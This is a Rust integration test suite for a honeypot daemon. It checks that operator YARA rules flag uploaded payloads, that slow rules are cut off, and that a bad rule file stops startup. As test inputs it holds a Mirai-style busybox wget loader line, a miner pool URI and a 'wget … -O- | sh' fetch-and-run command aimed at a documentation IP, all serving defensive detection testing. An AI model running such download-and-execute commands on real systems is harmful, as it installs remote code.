//! An operator's YARA rules, for real: the daemon reads the folder, the process that plays compiles and is sealed, curl uploads, and
//! the events say which rules matched.
#![expect(clippy::unwrap_used, clippy::panic, reason = "a test fails by panicking")]

mod common;

use common::{Net, eventually, is_root};
use serde_json::Value;
use std::{fmt::Write, fs, path::Path, process::Command};

/// What `docs/traps/rules.yar` shows.
const EXAMPLES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../../docs/traps/rules.yar");
/// Of so many octets each makes each of the rules below look on for kilobytes.
const NASTY_OCTETS: usize = 60_000;

/// A node that only watches, so that one stranger can come again, with the examples and rules whose work is quadratic.
fn config(net: &Net) -> std::path::PathBuf {
    let rules = net.dir.path().join("rules");
    fs::create_dir(&rules).unwrap();
    fs::copy(EXAMPLES, rules.join("examples.yar")).unwrap();
    let quadratic = (0..20).fold(String::new(), |mut text, n| {
        writeln!(text, "rule q{n} {{ strings: $a = /aaaa.{{0,4000}}b{n}[xy]/s condition: $a }}").unwrap();
        text
    });
    fs::write(rules.join("quadratic.yar"), quadratic).unwrap();
    let text = format!(
        "[evidence]\nrules = \"{}\"\n[[trap]]\nname = \"web\"\nservice = \"http\"\nlisten = [\"10.77.0.1:8080\"]\n",
        rules.display()
    );
    let file = net.config(&text);
    let text = fs::read_to_string(&file).unwrap().replace("[node]\n", "[node]\nmode = \"observe\"\n");
    fs::write(&file, text).unwrap();
    file
}

/// Uploads it under a name, as a stranger; the code of the answer.
fn upload(net: &Net, name: &str, what: &[u8]) -> String {
    let file = net.dir.path().join(name);
    fs::write(&file, what).unwrap();
    let mut command = Command::new("nsenter");
    command.arg(format!("--net=/run/netns/{}", net.stranger)).args([
        "curl",
        "-sS",
        "-m",
        "30",
        "-o",
        "/dev/null",
        "-w",
        "%{http_code}",
    ]);
    let output = command.arg("-T").arg(&file).arg(format!("http://10.77.0.1:8080/{name}")).output().unwrap();
    assert!(output.status.success(), "{name}: {}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8(output.stdout).unwrap()
}

/// The event about what was uploaded under this name.
fn event(net: &Net, name: &str) -> Value {
    eventually(&format!("the upload of {name} is told"), || {
        let is_it =
            |event: &Value| event["kind"] == "visit" && event["fields"]["path"].as_str().is_some_and(|path| path.ends_with(name));
        events(&net.socket()).into_iter().find(is_it)
    })
}

fn events(socket: &Path) -> Vec<Value> {
    let mut command = Command::new(env!("CARGO_BIN_EXE_honeymesh"));
    let output = command.args(["events", "--since", "1h", "--json", "--socket"]).arg(socket).output().unwrap();
    String::from_utf8(output.stdout).unwrap().lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

/// Octets without an order that somebody would recognise.
fn noise(count: usize) -> Vec<u8> {
    let mut state = 1_u64;
    let next = std::iter::repeat_with(|| {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
        state.to_be_bytes()[0]
    });
    next.take(count).collect()
}

/// The value under `key`, wherever it stands.
fn somewhere<'a>(value: &'a Value, key: &str) -> Option<&'a Value> {
    match value {
        Value::Object(map) => map.get(key).or_else(|| map.values().find_map(|value| somewhere(value, key))),
        Value::Array(list) => list.iter().find_map(|value| somewhere(value, key)),
        _ => None,
    }
}

#[test]
fn the_sealed_process_holds_an_operators_rules_against_what_a_real_client_uploads() {
    if !is_root() {
        return;
    }
    let net = Net::new();
    let _daemon = net.start(&config(&net));

    let loader = b"cd /tmp; /bin/busybox wget http://198.51.100.9/bins/ok.mips; stratum+tcp://pool.example.org:3333\n";
    upload(&net, "loader", loader);
    let told = event(&net, "loader");
    assert_eq!(
        (told["grade"].as_str(), told["fields"]["rules"].as_str()),
        (Some("hostile"), Some("mirai_loader miner")),
        "{told}"
    );
    let reasons = told["fields"]["score_reasons"].as_str().unwrap();
    assert!(
        reasons.contains("60 matched the rule mirai_loader of examples.yar: Mirai's loader, or one of its children"),
        "{reasons}"
    );
    assert!(reasons.contains("50 matched the rule miner of examples.yar: settings of a miner: a pool"), "{reasons}");

    // A program inside a request is looked at as a file; noise as what it is.
    let program = [&b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0"[..], b"UPX!", &[0; 100]].concat();
    upload(&net, "program", &program);
    assert_eq!(event(&net, "program")["fields"]["rules"], "packed_program");
    upload(&net, "noise", &noise(8_192));
    let told = event(&net, "noise");
    assert_eq!((told["grade"].as_str(), told["fields"]["rules"].as_str()), (Some("payload"), Some("dense_upload")), "{told}");
    // And what no rule is about has none.
    upload(&net, "plain", b"nothing that anybody wrote a rule for\n");
    assert_eq!(event(&net, "plain")["fields"].get("rules"), None);
}

#[test]
fn rules_that_would_look_for_ever_are_cut_off_and_the_sessions_go_on() {
    if !is_root() {
        return;
    }
    let net = Net::new();
    let _daemon = net.start(&config(&net));
    let player = net.json(&["status"])["trap_process"]["pid"].clone();
    upload(&net, "nasty", &vec![b'a'; NASTY_OCTETS]);
    let told = event(&net, "nasty");
    assert_eq!(told["fields"]["rules"], "+", "{told}");
    // The same process answers the next one, and everything but the rules, which may be at rest, is as always.
    upload(&net, "next", b"wget http://198.51.100.9/x -O- | sh\n");
    let told = event(&net, "next");
    assert_eq!(
        (told["grade"].as_str(), told["fields"]["download"].as_str()),
        (Some("hostile"), Some("http://198.51.100.9/x")),
        "{told}"
    );
    let status = net.json(&["status"]);
    assert_eq!(status["trap_process"]["pid"], player);
    assert!(somewhere(&status, "trap_rules_cut").and_then(Value::as_u64).is_some_and(|cut| cut >= 1), "{status}");
    // Once they have rested they look again.
    let mut tries = 0;
    eventually("the rules look again", || {
        tries += 1;
        let name = format!("again-{tries}");
        upload(&net, &name, b"/bin/busybox wget http://198.51.100.9/bins/ok.mips\n");
        (event(&net, &name)["fields"]["rules"] == "mirai_loader").then_some(())
    });
}

#[test]
fn a_daemon_does_not_start_with_rules_that_are_wrong_and_says_where() {
    if !is_root() {
        return;
    }
    let net = Net::new();
    let file = config(&net);
    fs::write(net.dir.path().join("rules/wrong.yar"), "rule a {\n  condition:\n    $nothing\n}\n").unwrap();
    let (code, line) = net.start_fails(&file);
    assert_eq!(code, 2, "{line}");
    assert!(line.ends_with("rules/wrong.yar:3:5: unknown variable $nothing; mend the rule here"), "{line}");
}
